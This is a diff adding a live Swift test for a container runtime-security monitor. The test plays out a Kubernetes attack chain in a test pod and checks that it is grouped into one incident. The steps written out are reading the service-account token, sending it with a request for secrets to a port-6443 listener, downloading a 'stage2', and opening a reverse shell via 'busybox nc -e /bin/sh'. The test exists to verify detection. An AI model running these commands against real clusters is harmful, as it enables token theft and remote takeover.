@@ -4,7 +4,9 @@
 // Under the real `runtime-watch run` (recording the events too): each attacked pod is one incident
 // whose id all its alerts carry, the two ids differ, the benign pod has none, and
 // `runtime-watch incidents` prints the same blocks from the live alert file and from a replay of the
-// recorded trace (replay reproduces live incidents).
+// recorded trace (replay reproduces live incidents). A fourth pod runs the whole chain the incident
+// score is built on (token read, API-server contact, egress, reverse shell): one incident, chain 4/4,
+// its timeline in that order.
 
 import Foundation
 import RuntimeWatchCore
@@ -39,6 +41,85 @@ final class IncidentLiveTests: XCTestCase {
         let seen = try listener.result()
         XCTAssertTrue(seen.received.hasPrefix("uid=0(root)"), "listener got: \(seen.received); nc: \(shell)")
         return UInt16(listener.port)
+    }
+
+    /// The whole chain in one pod, each step a separate command as an attacker types them: the token,
+    /// a call to the API server with it (port 6443, the only thing that makes an address "the API
+    /// server" when the profile names none), a download from an unusual port, then the shell.
+    func testAFourStepChainInOnePodIsOneIncidentWithEveryStepInOrder() throws {
+        try requireRoot("incident live test")
+        try requireTools([(path: RuncContainer.runc, package: "runc"), (path: BusyboxRootfs.busybox, package: "busybox-static"),
+                          (path: TestNetwork.ip, package: "iproute2"), (path: NetnsListener.python, package: "python3")])
+        let scratch = try TemporaryDirectory(prefix: "rw-incident-chain")
+        addTeardownBlock { scratch.remove() }
+        let kubelet = try TemporaryDirectory(prefix: "rw-kubelet")
+        addTeardownBlock { kubelet.remove() }
+        let network = try TestNetwork()
+        addTeardownBlock { network.teardown() }
+        let pod = try makePod("chain-\(RuncContainer.randomHex(bytes: 3))", kubelet: kubelet, network: network)
+        let alertsPath = scratch.at("alerts.jsonl")
+        let monitor = try EgressLiveChild(arguments: ["run", "--output", alertsPath, "--listen", "off",
+                                                      "--kubelet-root", kubelet.path, "--duration", "120"],
+                                          scratch: scratch, logName: "run.log")
+        addTeardownBlock { monitor.stop() }
+        guard monitor.waitForLog("monitoring", timeout: .seconds(30)) else { return XCTFail("monitor not ready:\n\(monitor.log)") }
+        usleep(1_500_000) // the token watcher marks its files after process capture starts
+
+        // 1. The token.
+        let token = try pod.exec(["cat", Self.serviceAccountPath + "/token"]).stdout
+        XCTAssertTrue(token.hasPrefix("eyJ"), token)
+        // 2. The API server, with the token, as `curl -H "Authorization: Bearer …"` would (busybox's nc:
+        // the static busybox's wget crashes without NSS in this bare rootfs).
+        let api = try network.startListener(port: 6443, sending: "HTTP/1.0 403 Forbidden\r\nContent-Length: 0\r\n\r", timeout: .seconds(10))
+        let request = "GET /api/v1/namespaces/shop/secrets HTTP/1.0\r\nAuthorization: Bearer \(token)\r\n\r\n"
+        let call = try pod.exec(["busybox", "nc", "-w", "5", TestNetwork.addressA, "6443"], timeout: .seconds(15), stdin: request)
+        let apiSaw = try api.result()
+        XCTAssertTrue(apiSaw.received.contains("Authorization: Bearer \(token)"), "the API server got the stolen token: \(apiSaw); wget: \(call)")
+        usleep(300_000)
+        // 3. Egress: a second stage from an unusual port.
+        let stage = try network.startListener(sending: "HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok", timeout: .seconds(10))
+        let download = try pod.exec(["busybox", "nc", "-w", "5", TestNetwork.addressA, String(stage.port)], timeout: .seconds(15),
+                                    stdin: "GET /stage2 HTTP/1.0\r\n\r\n")
+        let stageSaw = try stage.result()
+        XCTAssertTrue(stageSaw.received.contains("GET /stage2"), "the stage server was reached: \(stageSaw); wget: \(download)")
+        usleep(300_000)
+        // 4. The shell.
+        let shellListener = try network.startListener(sending: "id", timeout: .seconds(10))
+        let shell = try pod.exec(["busybox", "nc", TestNetwork.addressA, String(shellListener.port), "-e", "/bin/sh"], timeout: .seconds(15))
+        XCTAssertTrue(try shellListener.result().received.hasPrefix("uid=0(root)"), "nc: \(shell)")
+
+        func alerts() -> [EndToEndAlert] {
+            ((try? egressLiveAlerts(in: alertsPath)) ?? []).filter { $0.containerID == String(pod.id.prefix(12)) }
+        }
+        _ = waitUntil(timeout: .seconds(20)) { alerts().contains { $0.ruleID == "reverse-shell" } }
+        usleep(1_000_000) // the egress alerts of the connects (audit) may come a little after
+        monitor.stop()
+
+        let mine = alerts()
+        let rules = Set(mine.map(\.ruleID))
+        XCTAssertEqual(rules, ["service-account-token-read", "k8s-api-after-token-read", "unexpected-outbound-connection",
+                               "reverse-shell", "incident"], "\(mine)\nlog:\n\(monitor.log)")
+        let ids = Set(mine.map { $0.string("rw.incident.id") ?? "none" })
+        XCTAssertEqual(ids.count, 1, "one incident, its id on every alert: \(ids)")
+        XCTAssertFalse(ids.contains("none"))
+
+        // `incidents` over the live alert file: one block, the whole chain, its timeline in order.
+        let report = try CommandRunner.run([try runtimeWatchBinary(), "incidents", alertsPath], timeout: .seconds(60))
+        XCTAssertEqual(report.status, 0, "\(report)")
+        let blocks = report.stdout.components(separatedBy: "\n\n").filter { $0.hasPrefix("Incident ") }
+        XCTAssertEqual(blocks.count, 1, report.stdout)
+        let lines = (blocks.first ?? "").split(separator: "\n").map(String.init)
+        XCTAssertTrue(lines.count > 1 && lines[1].contains(", chain 4/4, "), "all four steps in chain order:\n\(report.stdout)")
+        func line(_ rule: String, _ process: String, _ target: String) -> Int? {
+            lines.firstIndex { $0.contains(" \(rule) \(process)(") && $0.contains(" \(target)") }
+        }
+        let steps = [line("service-account-token-read", "cat", Self.serviceAccountPath),
+                     line("k8s-api-after-token-read", "busybox", "\(TestNetwork.addressA):6443"),
+                     line("unexpected-outbound-connection", "busybox", "\(TestNetwork.addressA):\(stage.port)"),
+                     line("reverse-shell", "sh", "\(TestNetwork.addressA):\(shellListener.port)")]
+        XCTAssertFalse(steps.contains(nil), "every step in the timeline: \(steps)\n\(report.stdout)")
+        let found = steps.compactMap { $0 }
+        XCTAssertEqual(found, found.sorted(), "timeline in order:\n\(report.stdout)")
     }
 
     func testAttackChainsInTwoPodsAreTwoIncidentsAndABenignPodNoneLiveAndInReplay() throws {
